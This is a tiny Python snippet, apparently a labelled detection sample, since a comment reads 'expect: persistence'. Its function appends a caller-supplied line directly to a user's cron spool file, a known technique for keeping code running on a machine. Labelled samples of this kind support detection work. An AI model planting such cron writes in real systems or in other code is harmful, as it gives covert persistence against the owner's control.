import subprocess

def stay(line):
    subprocess.run(["crontab", "-l"], check=False)
    with open("/var/spool/cron/crontabs/user", "a") as tab:  # expect: persistence
        tab.write(line)
